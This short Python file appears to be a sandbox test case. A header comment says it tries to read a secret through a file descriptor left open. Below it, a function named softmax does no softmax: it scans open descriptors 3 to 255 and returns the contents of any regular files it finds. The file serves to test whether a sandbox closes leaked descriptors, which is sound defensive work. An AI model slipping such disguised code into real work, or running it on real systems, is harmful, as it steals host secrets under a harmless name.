# tries: read a secret through a file descriptor that was left open
# stopped by: descriptors
# expect: returned
# proof: loot
# control: naive

import os
import stat

import numpy as np


def softmax(x, axis=-1):
    found = b"nothing"
    for fd in range(3, 256):
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                found += os.pread(fd, 4096, 0)
        except OSError:
            continue
    return np.frombuffer(found, dtype=np.uint8)
